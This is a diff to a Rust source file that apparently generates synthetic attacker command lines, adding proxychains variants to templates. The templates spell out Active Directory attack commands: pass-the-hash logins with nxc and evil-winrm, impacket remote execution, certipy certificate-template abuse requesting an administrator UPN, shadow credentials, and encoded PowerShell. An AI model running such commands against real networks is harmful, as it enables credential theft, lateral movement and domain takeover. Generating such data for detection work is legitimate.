@@ -162,7 +162,7 @@ pub const FAMILIES: &[Family] = &[
             "{nxc} «smb¦winrm¦wmi¦mssql¦rdp¦ldap¦ssh» {nxctarget} -u {user} -H {nthash}« -x '{c}'¦ --shares¦ ",
             "-d {domain}¦ --local-auth¦»",
         ),
-        "evil-winrm -i {rhost} -u {user} -H {nthash}« -s {shdir}»",
+        "«proxychains »evil-winrm -i {rhost} -u {user} -H {nthash}« -s {shdir}»",
         concat!(
             "pth-«winexe -U {domain}/{user}%{hashes} //{rhost} cmd¦smbclient -U {domain}/{user}%{hashes} ",
             r#"//{rhost}/C$¦wmic -U {user}%{hashes} //{rhost} "select Caption from Win32_OperatingSystem"¦net "#,
@@ -199,8 +199,9 @@ pub const FAMILIES: &[Family] = &[
     ])
     .slots(&[
         ("x", concat!(
-                "«psexec.py¦wmiexec.py¦smbexec.py¦dcomexec.py¦atexec.py¦impacket-psexec¦impacket-wmiexec¦impacket",
-                "-smbclient¦{python} {impketdir}wmiexec.py¦services.py¦impacket-mssqlclient»",
+                "«proxychains psexec.py¦proxychains4 -q wmiexec.py¦proxychains -q ",
+                "impacket-wmiexec¦psexec.py¦wmiexec.py¦smbexec.py¦dcomexec.py¦atexec.py¦impacket-psexec¦impacket-",
+                "wmiexec¦impacket-smbclient¦{python} {impketdir}wmiexec.py¦services.py¦impacket-mssqlclient»",
             )),
         ("c", r"«whoami¦hostname¦ipconfig /all¦net localgroup administrators¦powershell -enc {b64_80}¦dir C:\\Users»"),
         ("h", concat!(
@@ -246,8 +247,8 @@ pub const FAMILIES: &[Family] = &[
         ),
         "{i}lookupsid.py {target}« 5000»",
         concat!(
-            "certipy-ad «find -u {user}@{domain} -p {password} -dc-ip {ip} -vulnerable -stdout¦req -u ",
-            "{user}@{domain} -p {password} -ca {company}-CA -template {stem} -upn ",
+            "«proxychains4 -q »certipy-ad «find -u {user}@{domain} -p {password} -dc-ip {ip} -vulnerable ",
+            "-stdout¦req -u {user}@{domain} -p {password} -ca {company}-CA -template {stem} -upn ",
             "administrator@{domain}¦auth -pfx {stem}.pfx -dc-ip {ip}¦shadow auto -account {user} -u ",
             "{user}@{domain} -hashes {nthash}¦relay -target {fqdn}¦forge -ca-pfx {stem}.pfx -upn ",
             "{user}@{domain}¦ca -backup -ca {company}-CA -u {user} -p {password}¦template -u {user} ",
@@ -291,7 +292,10 @@ pub const FAMILIES: &[Family] = &[
         "gettgtpkinit.py -pfx-base64 {b64_80} {domain}/{user} {user}.ccache",
     ])
     .slots(&[
-        ("i", "«impacket-¦¦{python} {impketdir}»"),
+        ("i", concat!(
+                "«impacket-¦¦{python} {impketdir}¦proxychains impacket-¦proxychains4 -q impacket-¦proxychains ",
+                "{python} {impketdir}»",
+            )),
     ])
     .weight(12),
     Family::other("kerberos-console", "kerberos-console", Console, &[
